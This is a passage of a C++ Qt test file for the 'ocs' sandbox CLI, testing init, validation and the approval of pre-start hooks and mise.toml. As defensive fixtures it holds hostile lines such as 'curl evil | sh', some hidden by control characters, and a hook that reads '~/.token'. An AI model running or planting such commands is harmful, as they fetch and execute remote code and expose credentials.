// Black-box tests of the `ocs` binary: exit codes, files `ocs init` writes, and the engine
// commands it issues, with a fake engine (a bash script that logs its arguments and
// answers per subcommand). HOME, the state root and the keychain are private to each test.

#include "cli.h"
#include "config/configfile.h"
#include "project/project.h"
#include "testhelpers.h"

#include <QDirIterator>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QtTest>

#include <csignal>
#include <sys/stat.h>

using namespace ocs;
using namespace ocs::test;

namespace {

const QString HookName = QStringLiteral("opencode-sandbox-pre-start-container.sh");
const QString ConfigName = QStringLiteral("opencode-sandbox-config.yaml");

// The fake engine. Every call appends one line to argv.log ("CALL\targ1\targ2…") and one to
// env.log (the subcommand and OPENCODE_SERVER_PASSWORD as the engine CLI sees it). The
// answer for subcommand KEY ("run", "stop", "container-inspect", …) comes from
// responses/KEY.out, .err and .rc (exit code; default 0).
const QByteArray FakeEngineScript = R"sh(#!/usr/bin/env bash
here="$(cd "$(dirname "$0")" && pwd)"
# One write per call (the line is made first): calls that run at the same time (the CLI asks
# about the container and the image together) must not interleave their lines.
line="CALL"
for a in "$@"; do line="$line	$a"; done
printf '%s\n' "$line" >>"$here/argv.log"
printf '%s\tOPENCODE_SERVER_PASSWORD=%s\n' "$1" "${OPENCODE_SERVER_PASSWORD-<unset>}" >>"$here/env.log"
prev=""
for a in "$@"; do
    if [ "$prev" = "--env-file" ]; then
        printf '%s\t%s\n' "$a" "$(stat -c %a "$a" 2>/dev/null)" >>"$here/envfile.log"
        cat "$a" >>"$here/envfile.log" 2>/dev/null
    fi
    prev="$a"
done
key="$1"
case "$1" in container | image) key="$1-$2" ;; esac
r="$here/responses/$key"
[ -f "$r.out" ] && cat "$r.out"
[ -f "$r.err" ] && cat "$r.err" >&2
[ -f "$r.rc" ] && exit "$(cat "$r.rc")"
exit 0
)sh";

const QByteArray VersionJson =
    R"({"Client":{"Version":"24.0.5","ApiVersion":"1.43"},"Server":{"Version":"24.0.7","ApiVersion":"1.43"}})";

struct CliResult
{
    int exitCode = -1;
    QString out;
    QString err;
    QString all() const { return out + err; }
};

} // namespace

class TestCli : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();

    void version();
    void noArguments_printsUsage();
    void unknownCommand();
    void usage_listsExactlyTheDispatchedCommands();
    void aliases_runCommandsOfTheTable();

    void init_createsStarterFiles();
    void init_sanitisesFolderName_data();
    void init_sanitisesFolderName();
    void init_keepsExistingFiles();
    void init_viaOcsInitAlias();

    void validate_data();
    void validate();
    void validate_namedFile();
    void subfolder_findsProject();

    void hookApprove_needsTerminalOrYes();
    void hookShow_makesControlCharactersVisible();
    void hookApprove_onlyTheHashShown();
    void hookShow_refusesUnsafeFiles_data();
    void hookShow_refusesUnsafeFiles();
    void mise_showAndApprove();
    void rebuild_refusesUnapprovedMiseToml();
    void rebuild_failurePrintsItsLog();

    void status_json();
    void secret_sourcesWithoutKeychain();
    void secret_valueNeedsTheKeychain();
    void secret_usage();
    void secret_terminalInputIsNotEchoed();
    void secret_keychainRoundTrip();
    void validate_suggestsInjection();
    void missingEngine_exit3();
    void start_runFails_printsEngineError();
    void stop_callsStopThenRm();
    void stop_notRunning();

    void policyCheck();
    void allowDeny_editTheConfigInPlaceAndThePolicyFiles();
    void allowDeny_refuseWhatTheyCannotDo();
    void ports_publishAndUnpublishEditTheConfig();
    void allow_countsAsReviewed_handAddedEntriesWait();
    void blocked_groupsTheRecordedLogByDomain();
    void blocked_follow();

private:
    CliResult ocs(const QStringList &args, const QString &cwd, const QString &program = QString());
    // The same with `input` on stdin (a pipe, not a terminal).
    CliResult ocsWithInput(const QStringList &args, const QString &cwd, const QByteArray &input,
                           const QString &program = QString());
    // Every file under the test's folder, with its content (a value must be in none).
    QByteArray allFiles() const;
    QString makeProjectFolder(const QString &name);
    // `ocs init --yes --no-build` in a new folder; returns its canonical path.
    QString initProject(const QString &name);
    void respond(const QString &key, const QByteArray &out, const QByteArray &err = {}, int rc = 0);
    QList<QStringList> engineCalls() const;
    QString stateRoot() const { return m_work + QStringLiteral("/state"); }
    QString sandboxIdOf(const QString &root, const QString &name) const
    {
        return ocs::computeSandboxId(name, root);
    }
    // A project named `name` with this config after its sandbox-name line.
    QString networkProject(const QString &name, const QByteArray &rest);
    QString policyFile(const QString &root, const QString &name, const char *list) const
    {
        return stateRoot() + QLatin1Char('/') + sandboxIdOf(root, name) +
               QStringLiteral("/network/policy/") + QString::fromLatin1(list);
    }

    QTemporaryDir m_tmp;
    QString m_work; // per test
    QString m_fakeDir;
    QProcessEnvironment m_env;
    int m_n = 0;
};

void TestCli::initTestCase()
{
    QVERIFY(m_tmp.isValid());
    QVERIFY2(QFileInfo(QStringLiteral(OCS_BINARY)).isExecutable(), OCS_BINARY " is not built");
}

void TestCli::init()
{
    m_work = canonical(m_tmp.path()) + QStringLiteral("/t%1").arg(++m_n);
    m_fakeDir = m_work + QStringLiteral("/fake");
    QVERIFY(QDir().mkpath(m_work + QStringLiteral("/home")));
    QVERIFY(QDir().mkpath(m_fakeDir + QStringLiteral("/responses")));
    QVERIFY(writeFile(m_fakeDir + QStringLiteral("/fake-docker"), FakeEngineScript,
                      QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    // A healthy engine on which nothing exists yet.
    respond(QStringLiteral("version"), VersionJson);
    respond(QStringLiteral("container-inspect"), {}, "Error: No such container: x\n", 1);

    m_env = QProcessEnvironment::systemEnvironment();
    m_env.insert(QStringLiteral("HOME"), m_work + QStringLiteral("/home"));
    m_env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_work + QStringLiteral("/home/.config"));
    m_env.insert(QStringLiteral("XDG_DATA_HOME"), m_work + QStringLiteral("/home/.local/share"));
    m_env.insert(QStringLiteral("OCS_STATE_ROOT"), stateRoot());
    m_env.insert(QStringLiteral("OCS_KEYCHAIN"), QStringLiteral("0"));
    m_env.insert(QStringLiteral("OCS_ENGINE"), m_fakeDir + QStringLiteral("/fake-docker"));
    m_env.insert(QStringLiteral("OCS_NPM_REGISTRY"), QStringLiteral("https://npm.example/"));
    m_env.insert(QStringLiteral("OCS_START_TIMEOUT"), QStringLiteral("10"));
    for (const char *v : {"DBUS_SESSION_BUS_ADDRESS", "OCS_EXTRA_HOSTS", "OCS_EXTRA_CA_CERTS",
                          "OCS_BASE_IMAGE", "OCS_DATA_DIR", "OCS_DEBUG", "QT_LOGGING_RULES"})
        m_env.remove(QString::fromLatin1(v));
}

CliResult TestCli::ocs(const QStringList &args, const QString &cwd, const QString &program)
{
    return ocsWithInput(args, cwd, QByteArray(), program);
}

QByteArray TestCli::allFiles() const
{
    QByteArray out;
    QDirIterator it(m_work, QDir::Files | QDir::Hidden | QDir::System,
                    QDirIterator::Subdirectories);
    while (it.hasNext())
        out += readFile(it.next());
    return out;
}

CliResult TestCli::ocsWithInput(const QStringList &args, const QString &cwd,
                                const QByteArray &input, const QString &program)
{
    QProcess p;
    p.setProgram(program.isEmpty() ? QStringLiteral(OCS_BINARY) : program);
    p.setArguments(args);
    p.setWorkingDirectory(cwd);
    p.setProcessEnvironment(m_env);
    p.start();
    CliResult r;
    if (!p.waitForStarted(10000))
        return r;
    p.write(input);
    p.closeWriteChannel(); // no terminal
    if (!p.waitForFinished(60000)) {
        p.kill();
        p.waitForFinished(5000);
        r.err = QStringLiteral("<ocs did not finish within 60 s>");
        return r;
    }
    r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -2;
    r.out = QString::fromUtf8(p.readAllStandardOutput());
    r.err = QString::fromUtf8(p.readAllStandardError());
    return r;
}

QString TestCli::makeProjectFolder(const QString &name)
{
    const QString dir = m_work + QStringLiteral("/projects/") + name;
    QDir().mkpath(dir);
    return canonical(dir);
}

QString TestCli::initProject(const QString &name)
{
    const QString root = makeProjectFolder(name);
    const CliResult r =
        ocs({QStringLiteral("init"), QStringLiteral("--yes"), QStringLiteral("--no-build")}, root);
    if (r.exitCode != 0)
        qWarning("ocs init failed (%d): %s", r.exitCode, qPrintable(r.all()));
    return r.exitCode == 0 ? root : QString();
}

void TestCli::respond(const QString &key, const QByteArray &out, const QByteArray &err, int rc)
{
    const QString base = m_fakeDir + QStringLiteral("/responses/") + key;
    QVERIFY(writeFile(base + QStringLiteral(".out"), out));
    QVERIFY(writeFile(base + QStringLiteral(".err"), err));
    QVERIFY(writeFile(base + QStringLiteral(".rc"), QByteArray::number(rc)));
}

QList<QStringList> TestCli::engineCalls() const
{
    QList<QStringList> calls;
    const QList<QByteArray> lines = readFile(m_fakeDir + QStringLiteral("/argv.log")).split('\n');
    for (const QByteArray &line : lines) {
        if (!line.startsWith("CALL"))
            continue;
        QStringList args = QString::fromUtf8(line).split(QLatin1Char('\t'));
        args.removeFirst();
        calls << args;
    }
    return calls;
}

void TestCli::version()
{
    const CliResult r = ocs({QStringLiteral("--version")}, m_work);
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, QStringLiteral("ocs " OCS_TEST_VERSION "\n"));
    QVERIFY(engineCalls().isEmpty());
}

void TestCli::noArguments_printsUsage()
{
    const CliResult r = ocs({}, m_work);
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.out.startsWith(QStringLiteral("Usage: ocs")), qPrintable(r.out));
    for (const char *cmd : {"init", "start", "stop", "status", "validate", "hook"})
        QVERIFY2(r.out.contains(QStringLiteral("\n  ") + QLatin1String(cmd)), cmd);
    // --help is a success.
    QCOMPARE(ocs({QStringLiteral("--help")}, m_work).exitCode, 0);
}

void TestCli::unknownCommand()
{
    const CliResult r = ocs({QStringLiteral("frobnicate")}, m_work);
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains(QStringLiteral("unknown command \"frobnicate\"")), qPrintable(r.err));
    QVERIFY(engineCalls().isEmpty());
}

void TestCli::usage_listsExactlyTheDispatchedCommands()
{
    const CliResult r = ocs({QStringLiteral("help")}, m_work);
    QCOMPARE(r.exitCode, 0);
    // The command lines of the usage: "  NAME [ARGUMENTS]  help" between "Commands:" and the
    // first empty line (help text wrapped onto a line of its own starts further right).
    const QString commandsPart =
        r.out.section(QStringLiteral("Commands:\n"), 1).section(QStringLiteral("\n\n"), 0, 0);
    QVERIFY2(!commandsPart.isEmpty(), qPrintable(r.out));
    QStringList listed;
    static const QRegularExpression commandLine(QStringLiteral("^  ([a-z][a-z-]*)(\\s|$)"));
    for (const QString &line : commandsPart.split(QLatin1Char('\n'))) {
        const auto m = commandLine.match(line);
        if (m.hasMatch())
            listed << m.captured(1);
    }
    QStringList table;
    for (const cli::Cli::Command &c : cli::Cli::commands()) {
        QVERIFY2(c.handler, qPrintable(c.name));
        QVERIFY2(!c.help.isEmpty(), qPrintable(c.name));
        table << c.name;
    }
    QCOMPARE(listed, table);
    QVERIFY(table.contains(QStringLiteral("start")) && table.contains(QStringLiteral("verify")));

    // Every listed command is dispatched by the binary (its --help, not "unknown command").
    for (const QString &name : std::as_const(listed)) {
        const CliResult h = ocs({name, QStringLiteral("--help")}, m_work);
        QVERIFY2(!h.err.contains(QStringLiteral("unknown command")), qPrintable(name));
        QVERIFY2(h.exitCode == 0, qPrintable(name + QStringLiteral(": ") + h.all()));
    }
    // And nothing else is.
    QVERIFY(!cli::Cli::findCommand(QStringLiteral("frobnicate")));
}

void TestCli::aliases_runCommandsOfTheTable()
{
    const auto aliases = cli::Cli::aliases();
    QVERIFY(aliases.size() >= 6);
    const QString usage = cli::Cli::usage();
    for (const auto &[alias, command] : aliases) {
        QVERIFY2(alias.startsWith(QStringLiteral("ocs-")), qPrintable(alias));
        QVERIFY2(cli::Cli::findCommand(command),
                 qPrintable(alias + QStringLiteral(" -> ") + command));
        QCOMPARE(cli::Cli::commandForProgramName(alias), command);
        QVERIFY2(usage.contains(alias), qPrintable(alias));
        // The build made the link next to ocs (from the same list).
        const QFileInfo link(QFileInfo(QStringLiteral(OCS_BINARY)).absolutePath() +
                             QLatin1Char('/') + alias);
        QVERIFY2(link.isSymLink() && link.symLinkTarget() ==
                                         QFileInfo(QStringLiteral(OCS_BINARY)).canonicalFilePath(),
                 qPrintable(link.filePath()));
    }
    QVERIFY(cli::Cli::commandForProgramName(QStringLiteral("ocs")).isEmpty());
}

void TestCli::init_createsStarterFiles()
{
    const QString root = makeProjectFolder(QStringLiteral("My Project_1"));
    QVERIFY(writeFile(root + QStringLiteral("/.gitignore"), "node_modules")); // no final newline
    const CliResult r =
        ocs({QStringLiteral("init"), QStringLiteral("--yes"), QStringLiteral("--no-build")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));

    for (const QString &f :
         {QStringLiteral("mise.toml"), ConfigName, QStringLiteral("opencode.jsonc"), HookName})
        QVERIFY2(QFileInfo::exists(root + QLatin1Char('/') + f), qPrintable(f));
    const QByteArray config = readFile(root + QLatin1Char('/') + ConfigName);
    static const QRegularExpression nameLine(
        QStringLiteral("(?m)^sandbox-name: *[\"']?my-project-1[\"']? *$"));
    QVERIFY2(nameLine.match(QString::fromUtf8(config)).hasMatch(), config.constData());
    QVERIFY(readFile(root + QStringLiteral("/opencode.jsonc")).contains("$schema"));
    QVERIFY(QFileInfo(root + QLatin1Char('/') + HookName).isExecutable());
    QVERIFY(fileMode(root + QLatin1Char('/') + HookName) & 0100);
    QCOMPARE(readFile(root + QStringLiteral("/.gitignore")),
             "node_modules\n" + HookName.toUtf8() + '\n');

    // The sandbox id is the reference's, and the hook is approved in its state folder.
    const QString id = sandboxIdOf(root, QStringLiteral("my-project-1"));
    QVERIFY2(r.out.contains(QStringLiteral("Sandbox ID: ") + id), qPrintable(r.out));
    const QString stateFile =
        stateRoot() + QLatin1Char('/') + id + QStringLiteral("/ocs-state.json");
    const QJsonObject state = QJsonDocument::fromJson(readFile(stateFile)).object();
    QCOMPARE(state.value(QStringLiteral("approvedHookSha256")).toString(),
             sha256Hex(readFile(root + QLatin1Char('/') + HookName)));
    // So is the mise.toml it wrote (the image build runs it).
    QCOMPARE(state.value(QStringLiteral("approvedMiseSha256")).toString(),
             sha256Hex(readFile(root + QStringLiteral("/mise.toml"))));
    QCOMPARE(state.value(QStringLiteral("projectRoot")).toString(), root);
    QCOMPARE(fileMode(stateRoot() + QLatin1Char('/') + id), 0700);
    QVERIFY(engineCalls().isEmpty()); // --no-build: the engine is not needed
}

void TestCli::init_sanitisesFolderName_data()
{
    QTest::addColumn<QString>("folder");
    QTest::addColumn<QString>("expected");
    QTest::newRow("spaces and underscore")
        << QStringLiteral("My Project_1") << QStringLiteral("my-project-1");
    QTest::newRow("dashes at the ends")
        << QStringLiteral("--Weird..Name--") << QStringLiteral("weird-name");
    QTest::newRow("plain") << QStringLiteral("api") << QStringLiteral("api");
}

void TestCli::init_sanitisesFolderName()
{
    QFETCH(QString, folder);
    QFETCH(QString, expected);
    const QString root = initProject(folder);
    QVERIFY(!root.isEmpty());
    static const QRegularExpression nameLine(
        QStringLiteral("(?m)^sandbox-name: *[\"']?([^\"'\\s]*)[\"']? *$"));
    const auto m =
        nameLine.match(QString::fromUtf8(readFile(root + QLatin1Char('/') + ConfigName)));
    QVERIFY(m.hasMatch());
    QCOMPARE(m.captured(1), expected);
}

void TestCli::init_keepsExistingFiles()
{
    const QString root = initProject(QStringLiteral("keep"));
    QVERIFY(!root.isEmpty());
    // The user edits everything...
    const QList<std::pair<QString, QByteArray>> edited{
        {QStringLiteral("mise.toml"), "[tools]\nnode = \"20\"\n"},
        {ConfigName, "sandbox-name: custom-name\n"},
        {QStringLiteral("opencode.jsonc"), "{ \"model\": \"mine\" }\n"},
        {HookName, "#!/bin/bash\nexport MINE=1\n"},
    };
    for (const auto &[file, content] : edited)
        QVERIFY(writeFile(root + QLatin1Char('/') + file, content));
    const QByteArray gitignore = readFile(root + QStringLiteral("/.gitignore"));
    QCOMPARE(gitignore, HookName.toUtf8() + '\n');

    // ...and runs init again: nothing is overwritten.
    const CliResult r =
        ocs({QStringLiteral("init"), QStringLiteral("--yes"), QStringLiteral("--no-build")}, root);
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    for (const auto &[file, content] : edited)
        QCOMPARE(readFile(root + QLatin1Char('/') + file), content);
    QCOMPARE(readFile(root + QStringLiteral("/.gitignore")), gitignore);
    QVERIFY2(r.out.contains(QStringLiteral("exists, kept as it is")), qPrintable(r.out));
    // A hook that existed before is not approved behind the user's back.
    const QString id = sandboxIdOf(root, QStringLiteral("custom-name"));
    const QJsonObject state = QJsonDocument::fromJson(readFile(stateRoot() + QLatin1Char('/') + id +
                                                               QStringLiteral("/ocs-state.json")))
                                  .object();
    QVERIFY(state.value(QStringLiteral("approvedHookSha256")).toString() !=
            sha256Hex(readFile(root + QLatin1Char('/') + HookName)));
    QVERIFY(state.value(QStringLiteral("approvedMiseSha256")).toString() !=
            sha256Hex(readFile(root + QStringLiteral("/mise.toml"))));
}

void TestCli::init_viaOcsInitAlias()
{
    const QString bin = m_work + QStringLiteral("/bin");
    QVERIFY(QDir().mkpath(bin));
    QVERIFY(QFile::link(QStringLiteral(OCS_BINARY), bin + QStringLiteral("/ocs-init")));
    const QString root = makeProjectFolder(QStringLiteral("Alias Test"));
    const CliResult r = ocs({QStringLiteral("--yes"), QStringLiteral("--no-build")}, root,
                            bin + QStringLiteral("/ocs-init"));
    QVERIFY2(r.exitCode == 0, qPrintable(r.all()));
    for (const QString &f :
         {QStringLiteral("mise.toml"), ConfigName, QStringLiteral("opencode.jsonc"), HookName})
        QVERIFY2(QFileInfo::exists(root + QLatin1Char('/') + f), qPrintable(f));
    QVERIFY(readFile(root + QLatin1Char('/') + ConfigName).contains("alias-test"));
    QVERIFY(r.out.contains(QStringLiteral("Sandbox ID: ") +
                           sandboxIdOf(root, QStringLiteral("alias-test"))));
}

void TestCli::validate_data()
{
    QTest::addColumn<QByteArray>("config");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<int>("errorLine"); // a line that must be reported, 0 = none
    QTest::newRow("good") << QByteArray("sandbox-name: demo\n"
                                        "http-domain-whitelist:\n"
                                        "  - api.example.com\n"
                                        "  - .github.com\n"
                                        "host-ports:\n"
                                        "  - 5432\n"
                                        "env-passthrough:\n"
                                        "  API_KEY: HOST_API_KEY\n"
                                        "env:\n"
                                        "  LOG_LEVEL: debug\n")
                          << 0 << 0;
    QTest::newRow("port out of range")
        << QByteArray("sandbox-name: demo\nhost-ports:\n  - 99999\n") << 1 << 3;
    QTest::newRow("yaml syntax")
        << QByteArray("sandbox-name: demo\nhttp-domain-whitelist: [api.example.com\n") << 1 << 0;
}

void TestCli::validate()
{
    QFETCH(QByteArray, config);
    QFETCH(int, exitCode);
    QFETCH(int, errorLine);
    const QString root = makeProjectFolder(QStringLiteral("validate"));
    const QString path = root + QLatin1Char('/') + ConfigName;
    QVERIFY(writeFile(path, config));
    const CliResult r = ocs({QStringLiteral("validate")}, root);
    QVERIFY2(r.exitCode == exitCode,
             qPrintable(QStringLiteral("exit %1: %2").arg(r.exitCode).arg(r.all())));
    const QRegularExpression diag(QStringLiteral("(?m)^") + QRegularExpression::escape(path) +
                                  QStringLiteral(":(\\d+):(\\d+): error: \\S"));
    if (exitCode == 0) {
        QVERIFY2(r.out.contains(path + QStringLiteral(": OK")), qPrintable(r.all()));
        QVERIFY2(!diag.match(r.err).hasMatch(), qPrintable(r.err));
        return;
    }
    auto it = diag.globalMatch(r.err);
    QVERIFY2(it.hasNext(), qPrintable(r.err));
    QList<int> lines;
    while (it.hasNext()) {
        const auto m = it.next();
        lines << m.captured(1).toInt();
        QVERIFY(m.captured(1).toInt() > 0);
        QVERIFY(m.captured(2).toInt() > 0);
    }
    if (errorLine > 0)
        QVERIFY2(lines.contains(errorLine), qPrintable(r.err));
}

void TestCli::validate_namedFile()
{
    const QString file = m_work + QStringLiteral("/elsewhere/some-config.yaml");
    QVERIFY(writeFile(file, "sandbox-name: demo\nhost-ports:\n  - not-a-port\n"));
    const CliResult bad = ocs({QStringLiteral("validate"), file}, m_work);
    QCOMPARE(bad.exitCode, 1);
    QVERIFY2(bad.err.contains(file + QStringLiteral(":3:")), qPrintable(bad.err));
    QVERIFY(writeFile(file, "sandbox-name: demo\n"));
    const CliResult good = ocs({QStringLiteral("validate"), file}, m_work);
    QVERIFY2(good.exitCode == 0, qPrintable(good.all()));
    // Outside any project, without a file: a clear error.
    const CliResult none = ocs({QStringLiteral("validate")}, m_work);
    QCOMPARE(none.exitCode, 1);
    QVERIFY2(none.err.contains(ConfigName), qPrintable(none.err));
}

void TestCli::subfolder_findsProject()
{
    const QString root = initProject(QStringLiteral("sub"));
    QVERIFY(!root.isEmpty());
    const QString deep = root + QStringLiteral("/src/lib/deep");
    QVERIFY(QDir().mkpath(deep));

    const CliResult v = ocs({QStringLiteral("validate")}, deep);
    QVERIFY2(v.exitCode == 0, qPrintable(v.all()));
    QVERIFY2(v.out.contains(root + QLatin1Char('/') + ConfigName), qPrintable(v.out));

    const CliResult s = ocs({QStringLiteral("stop")}, deep);
    QVERIFY2(s.exitCode == 0, qPrintable(s.all()));
    const QString name =
        QStringLiteral("opencode-sandbox-") + sandboxIdOf(root, QStringLiteral("sub"));
    QVERIFY(engineCalls().contains(
        QStringList{QStringLiteral("stop"), QStringLiteral("--time"), QStringLiteral("10"), name}));

    const CliResult h = ocs({QStringLiteral("hook"), QStringLiteral("show")}, deep);
    QCOMPARE(h.exitCode, 0);
    QVERIFY2(h.out.contains(root + QLatin1Char('/') + HookName), qPrintable(h.out));

    // Outside the project: a clear error, exit 1.
    const CliResult outside = ocs({QStringLiteral("stop")}, m_work);
    QCOMPARE(outside.exitCode, 1);
    QVERIFY2(outside.err.contains(QStringLiteral("ocs init")), qPrintable(outside.err));
}

void TestCli::hookApprove_needsTerminalOrYes()
{
    const QString root = initProject(QStringLiteral("hook"));
    QVERIFY(!root.isEmpty());
    const QString id = sandboxIdOf(root, QStringLiteral("hook"));
    const QString stateFile =
        stateRoot() + QLatin1Char('/') + id + QStringLiteral("/ocs-state.json");
    const QByteArray hook = "#!/bin/bash\nexport TOKEN=$(cat ~/.token)\n";
    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, hook));
    auto approvedSha = [&] {
        return QJsonDocument::fromJson(readFile(stateFile))
            .object()
            .value(QStringLiteral("approvedHookSha256"))
            .toString();
    };
    QVERIFY(approvedSha() != sha256Hex(hook));

    const CliResult show = ocs({QStringLiteral("hook"), QStringLiteral("show")}, root);
    QCOMPARE(show.exitCode, 0);
    QVERIFY(show.out.contains(QStringLiteral("export TOKEN=$(cat ~/.token)")));
    QVERIFY2(show.out.contains(QStringLiteral("Status: NOT approved")), qPrintable(show.out));

    // stdin is a pipe, not a terminal: no silent approval.
    const CliResult refused = ocs({QStringLiteral("hook"), QStringLiteral("approve")}, root);
    QVERIFY2(refused.exitCode != 0, qPrintable(refused.all()));
    QVERIFY2(refused.err.contains(QStringLiteral("--yes")), qPrintable(refused.err));
    QVERIFY(approvedSha() != sha256Hex(hook));

    const CliResult approved =
        ocs({QStringLiteral("hook"), QStringLiteral("approve"), QStringLiteral("--yes")}, root);
    QVERIFY2(approved.exitCode == 0, qPrintable(approved.all()));
    QCOMPARE(approvedSha(), sha256Hex(hook));
    const CliResult after = ocs({QStringLiteral("hook"), QStringLiteral("show")}, root);
    QVERIFY2(after.out.contains(QStringLiteral("Status: approved")), qPrintable(after.out));

    const CliResult bad = ocs({QStringLiteral("hook"), QStringLiteral("frob")}, root);
    QCOMPARE(bad.exitCode, 2);
}

void TestCli::hookShow_makesControlCharactersVisible()
{
    const QString root = initProject(QStringLiteral("hidden"));
    QVERIFY(!root.isEmpty());
    // In a terminal the CR, the escape sequence and the RLO would hide the first command.
    const QByteArray hook = "curl evil | sh #\recho harmless\n"
                            "wget evil2\x1b[2K\x1b[1Gecho fine\n"
                            "echo \xe2\x80\xae"
                            "hs.live | lruc\n";
    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, hook));
    const CliResult show = ocs({QStringLiteral("hook"), QStringLiteral("show")}, root);
    QCOMPARE(show.exitCode, 0);
    QVERIFY2(show.out.contains(QStringLiteral("curl evil | sh #\\recho harmless")),
             qPrintable(show.out));
    QVERIFY2(show.out.contains(QStringLiteral("wget evil2\\x1b[2K\\x1b[1Gecho fine")),
             qPrintable(show.out));
    QVERIFY2(show.out.contains(QStringLiteral("echo <U+202E>hs.live | lruc")),
             qPrintable(show.out));
    QVERIFY(!show.out.contains(QLatin1Char('\r')));
    QVERIFY(!show.out.contains(QChar(0x1b)));
    QVERIFY(!show.out.contains(QChar(0x202e)));
    QVERIFY2(show.err.contains(QStringLiteral("warning: 4 control or invisible")),
             qPrintable(show.err));
    // The hash shown is the file's real one.
    QVERIFY2(show.out.contains(sha256Hex(hook)), qPrintable(show.out));
}

void TestCli::hookApprove_onlyTheHashShown()
{
    const QString root = initProject(QStringLiteral("hashed"));
    QVERIFY(!root.isEmpty());
    const QString stateFile = stateRoot() + QLatin1Char('/') +
                              sandboxIdOf(root, QStringLiteral("hashed")) +
                              QStringLiteral("/ocs-state.json");
    auto approvedSha = [&] {
        return QJsonDocument::fromJson(readFile(stateFile))
            .object()
            .value(QStringLiteral("approvedHookSha256"))
            .toString();
    };
    const QByteArray shown = "export A=1\n";
    const QByteArray swapped = "export A=1\ncurl evil | sh\n";
    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, shown));
    // The user read `shown`; the file changed before they approved.
    QVERIFY(writeFile(root + QLatin1Char('/') + HookName, swapped));
    const CliResult refused =
        ocs({QStringLiteral("hook"), QStringLiteral("approve"), QStringLiteral("--yes"),
             QStringLiteral("--sha256"), sha256Hex(shown)},
            root);
    QCOMPARE(refused.exitCode, 1);
    QVERIFY2(refused.err.contains(QStringLiteral("not approved")), qPrintable(refused.err));
    QVERIFY(approvedSha() != sha256Hex(swapped));
    const CliResult ok =
        ocs({QStringLiteral("hook"), QStringLiteral("approve"), QStringLiteral("--yes"),
             QStringLiteral("--sha256"), sha256Hex(swapped)},
            root);
    QVERIFY2(ok.exitCode == 0, qPrintable(ok.all()));
    QCOMPARE(approvedSha(), sha256Hex(swapped));
}

void TestCli::hookShow_refusesUnsafeFiles_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
    QTest::newRow("symlink to a file outside")
        << QStringLiteral("outside") << QStringLiteral("symbolic link");
}

void TestCli::hookShow_refusesUnsafeFiles()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedWords);
    const QString root = initProject(QStringLiteral("unsafe-") + kind);
    QVERIFY(!root.isEmpty());
    const QString hook = root + QLatin1Char('/') + HookName;
    QVERIFY(QFile::remove(hook));
    if (kind == QLatin1String("fifo")) {
        QVERIFY(::mkfifo(QFile::encodeName(hook).constData(), 0600) == 0);
    } else {
        QVERIFY(writeFile(m_work + QStringLiteral("/home/.secret-script"), "export SECRET=1\n"));
        QVERIFY(QFile::link(m_work + QStringLiteral("/home/.secret-script"), hook));
    }
    QElapsedTimer timer;
    timer.start();
    for (const QString &action : {QStringLiteral("show"), QStringLiteral("approve")}) {
        const CliResult r = ocs({QStringLiteral("hook"), action, QStringLiteral("--yes")}, root);
        QCOMPARE(r.exitCode, 1);
        QVERIFY2(r.err.contains(hook), qPrintable(r.err));
        QVERIFY2(r.err.contains(expectedWords), qPrintable(r.err));
        QVERIFY(!r.out.contains(QStringLiteral("SECRET")));
    }
    QVERIFY2(timer.elapsed() < 20000, "ocs hook blocked");
}

void TestCli::mise_showAndApprove()
{
    const QString root = initProject(QStringLiteral("mise"));
    QVERIFY(!root.isEmpty());
    const QString stateFile = stateRoot() + QLatin1Char('/') +
                              sandboxIdOf(root, QStringLiteral("mise")) +
                              QStringLiteral("/ocs-state.json");
    auto approvedSha = [&] {
        return QJsonDocument::fromJson(readFile(stateFile))
            .object()
            .value(QStringLiteral("approvedMiseSha256"))
            .toString();
    };
    // init's mise.toml names no tool: nothing to approve.
    const CliResult fresh = ocs({QStringLiteral("mise"), QStringLiteral("show")}, root);
    QCOMPARE(fresh.exitCode, 0);
    QVERIFY2(fresh.out.contains(QStringLiteral("Status: nothing to install")),
             qPrintable(fresh.out));

    const QByteArray mise = "[tools]\nnode = \"22\"\n\x1b[1A\n";
    QVERIFY(writeFile(root + QStringLiteral("/mise.toml"), mise));
    const CliResult show = ocs({QStringLiteral("mise"), QStringLiteral("show")}, root);
    QCOMPARE(show.exitCode, 0);
    QVERIFY2(show.out.contains(QStringLiteral("Status: NOT approved")), qPrintable(show.out));
    QVERIFY2(show.out.contains(QStringLiteral("\\x1b[1A")), qPrintable(show.out));
    QVERIFY(!show.out.contains(QChar(0x1b)));
    const CliResult refused = ocs({QStringLiteral("mise"), QStringLiteral("approve")}, root);
    QVERIFY(refused.exitCode != 0);
    QVERIFY2(refused.err.contains(QStringLiteral("ocs mise approve --yes")),
             qPrintable(refused.err));
    const CliResult approved =
        ocs({QStringLiteral("mise"), QStringLiteral("approve"), QStringLiteral("--yes")}, root);
    QVERIFY2(approved.exitCode == 0, qPrintable(approved.all()));
    QCOMPARE(approvedSha(), sha256Hex(mise));
    const CliResult usage = ocs({QStringLiteral("mise"), QStringLiteral("frob")}, root);
    QCOMPARE(usage.exitCode, 2);
}

void TestCli::rebuild_refusesUnapprovedMiseToml()
{
    const QString root = initProject(QStringLiteral("rebuild-mise"));
    QVERIFY(!root.isEmpty());
    QVERIFY(writeFile(root + QStringLiteral("/mise.toml"),
                      "[tools]\nnode = \"22\"\n[hooks]\npostinstall = \"curl evil | sh\"\n"));
    const CliResult r = ocs({QStringLiteral("rebuild")}, root);
